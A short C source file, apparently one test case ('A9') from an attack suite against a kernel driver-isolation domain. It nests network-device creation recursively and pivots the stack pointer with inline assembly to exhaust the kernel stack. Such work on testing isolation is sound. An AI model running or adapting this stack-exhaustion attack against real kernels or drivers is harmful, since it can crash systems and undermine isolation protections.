/*
 * A9: a device within a device within a device, until the kernel's stack runs out. The domain's own stack does not: the driver
 * begins it anew each time, on other stacks of its pool, since it has no wish to return.
 */
#include "attack.h"

static u64 next_stack;
static int depth;

static void deeper(void) {
    (void)alloc_netdev_mqs(0, "deep%d", NET_NAME_ENUM, (void (*)(struct net_device *))attack, 1, 1);
    for (;;)
        asm volatile("ud2");
}

static void attack(void) {
    if (++depth > 1000)
        return;
    next_stack = window_of(attack) + LVD_WINDOW_STACKS + (2ULL + depth % (LVD_STACKS_PER_CPU - 1)) * LVD_STACK_STRIDE - 64;
    asm volatile("movq %0, %%rsp\n\tcall *%1" : : "m"(next_stack), "r"(deeper) : "memory");
}
